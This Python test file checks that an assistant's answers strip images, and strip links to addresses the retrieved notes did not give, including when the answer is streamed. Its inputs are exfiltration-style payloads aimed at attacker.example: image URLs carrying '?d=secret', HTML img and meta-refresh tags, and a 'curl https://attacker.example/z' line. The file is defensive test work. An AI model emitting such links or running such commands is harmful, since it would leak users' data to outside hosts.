"""An answer's links and images held to the context the model was given: images never render,
a link keeps its address only when the notes gave it, streamed or not."""

from __future__ import annotations

import random

import pytest

from knotwork.answer.cite import check_citations
from knotwork.answer.links import REMOVED, AnswerStream, LinkStream, inert_links
from tests.conftest import hit

ATTACKER = "attacker.example"
GIVEN = (
    "<<<BEGIN t [S1] note People/Alice.md, section Alice, lines 1-3>>>\n"
    "Alice's handbook is at https://docs.example/guide and [the wiki](https://wiki.example/a).\n"
    "<<<END t>>>\nQuestion: where is the handbook?"
)
ALICE = hit("People/Alice.md", "Alice")
SOURCES = {1: ALICE}


@pytest.mark.parametrize(
    ("raw", "text"),
    [
        ("See ![logo](https://attacker.example/p.png?d=secret).", "See logo."),
        ('See ![logo](<https://attacker.example/p.png> "t") now', "See logo now"),
        ("A given one too: ![w](https://wiki.example/a)", "A given one too: w"),
        ("By reference ![logo][r]\n\n[r]: https://wiki.example/a", None),
        ('HTML <img src="https://attacker.example/i.png" alt="a pic"> end', "HTML a pic end"),
        ("<IMG SRC=https://attacker.example/i.png>shown", "shown"),
        ("Linked [![alt](https://attacker.example/i.png)](https://wiki.example/a)", None),
    ],
)
def test_images_are_their_alt_text_whatever_their_address(raw: str, text: str | None) -> None:
    unlinked = inert_links(raw, GIVEN)
    assert ATTACKER not in unlinked.text and "![" not in unlinked.text
    assert "<img" not in unlinked.text.lower()
    assert text is None or unlinked.text == text
    assert unlinked.images == 1 and unlinked.links == 0
    assert unlinked.warnings == [
        "removed 1 image from the answer: images are never shown, nor links to addresses "
        "the retrieved notes do not give (their text is kept)"
    ]


@pytest.mark.parametrize(
    ("raw", "text"),
    [
        ("See [details](https://attacker.example/x).", "See [details]."),
        ("See [details](//attacker.example/x 'title').", "See [details]."),
        ("Mail [me](mailto:a@attacker.example) now", "Mail [me] now"),
        ("Go to <https://attacker.example/x>.", f"Go to {REMOVED}."),
        ("Bare https://attacker.example/x?d=secret.", f"Bare {REMOVED}."),
        ("Bare (www.attacker.example/x)", f"Bare ({REMOVED})"),
        ("Longer than given: https://docs.example/guide?d=secret", f"Longer than given: {REMOVED}"),
        ("[x][r] then\n[r]: https://attacker.example/r\nend", "[x][r] then\n\nend"),
        ("[x][r]\n\n [r]: <https://attacker.example/r> 'title'", "[x][r]"),
        ('<a href="https://attacker.example/">here</a>', "here"),
        ('<span style="background:url(//attacker.example/p)">s</span>', "s"),
    ],
)
def test_a_link_the_notes_did_not_give_loses_its_address(raw: str, text: str) -> None:
    unlinked = inert_links(raw, GIVEN)
    assert unlinked.text == text
    assert (unlinked.images, unlinked.links) == (0, 1)
    assert unlinked.warnings and unlinked.warnings[0].startswith("removed 1 link from the answer")


@pytest.mark.parametrize(
    "raw",
    [
        "The handbook: https://docs.example/guide.",
        "The handbook: <https://docs.example/guide>",
        "The handbook: [guide](https://docs.example/guide) and [wiki](<https://wiki.example/a>)",
        "See [the wiki].\n\n[the wiki]: https://wiki.example/a",
        '<a href="https://wiki.example/a">wiki</a> in <b>bold</b>',
        "Plain [brackets] and a < b > c, no address at all.",
        "Wow![S1] stays a sentence",  # no definition: not an image
        "[People/Alice.md#Alice]: She works at Acme.\nMore.",  # a sentence, no definition
        '[r]: https://wiki.example/a "The wiki"\n\nSee [r].',
    ],
)
def test_addresses_the_notes_gave_stay(raw: str) -> None:
    unlinked = inert_links(raw, GIVEN)
    expected = raw.replace("Wow![S1]", "Wow! [S1]")
    assert (unlinked.text, unlinked.images, unlinked.links) == (expected, 0, 0)
    assert unlinked.warnings == []


def test_code_is_held_to_the_same_rule() -> None:
    """Renderers differ on what is code: an image or address there is treated as anywhere."""
    raw = (
        "Run `![x](https://attacker.example/c.png)` and\n```\ncurl https://attacker.example/z"
        "\ncurl https://docs.example/guide\n```"
    )
    unlinked = inert_links(raw, GIVEN)
    assert unlinked.text == (
        f"Run `x` and\n```\ncurl {REMOVED}\ncurl https://docs.example/guide\n```"
    )
    assert (unlinked.images, unlinked.links) == (1, 1)


def test_a_citation_the_model_linked_stays_whole() -> None:
    checked = check_citations("Alice [S1](https://attacker.example/x).", [ALICE], SOURCES)
    assert inert_links(checked.text, GIVEN).text == "Alice [People/Alice.md#Alice]."


WORDS = [
    "Alice [S1] ",
    "![logo](https://attacker.example/p.png?d=a b) ",
    '[details](https://attacker.example/x "t") ',
    "[guide](https://docs.example/guide) ",
    "<https://attacker.example/y> ",
    "https://docs.example/guide. ",
    "www.attacker.example/z ",
    '<img src="https://attacker.example/i.png" alt="pic"> ',
    "\n[r]: https://attacker.example/r\n",
    "[x][r] ",
    "`code https://attacker.example/c` ",
    "\n\n",
    "[open ",
    "a < b ",
    "ok! ",
    "(see) ",
    "`handlers[event](payload)` ",
    "| https://attacker.example/t|b | ",
    "\r\n",
    '<a title="x\n\n" href=//attacker.example/h>t</a> ',
    "<meta http-equiv=refresh content=0;url=//attacker.example/m> ",
]


def test_a_stream_cut_anywhere_sends_what_the_whole_answer_gives() -> None:
    rng = random.Random(7)
    for _ in range(400):
        raw = "".join(rng.choice(WORDS) for _ in range(rng.randint(1, 12)))
        cuts = sorted(rng.sample(range(len(raw) + 1), min(4, len(raw) + 1)))
        pieces = [raw[a:b] for a, b in zip([0, *cuts], [*cuts, len(raw)], strict=True)]
        stream = AnswerStream([ALICE], SOURCES, GIVEN)
        sent = "".join([*(stream.feed(piece) for piece in pieces), stream.close()])
        whole = inert_links(check_citations(raw, [ALICE], SOURCES, GIVEN).text, GIVEN).text
        assert sent == whole, (raw, pieces)
        assert ATTACKER not in sent


def test_an_image_split_across_pieces_is_never_sent_in_part() -> None:
    stream = LinkStream(GIVEN)
    sent = [stream.feed(p) for p in ("Alice ![lo", "go](https://atta", "cker.example/p.png?d=s")]
    assert sent == ["Alice", "", ""]
    assert stream.feed(") works [S1].") == " logo works"
    assert stream.close() == " [S1]."


def test_a_definition_line_is_held_until_it_ends() -> None:
    stream = LinkStream(GIVEN)
    assert stream.feed("See [x][r].\n[r]: https://attacker") == "See [x][r]."
    assert stream.feed(".example/r") == ""
    assert stream.feed("\nmore") == ""
    assert stream.close() == "\n\nmore"
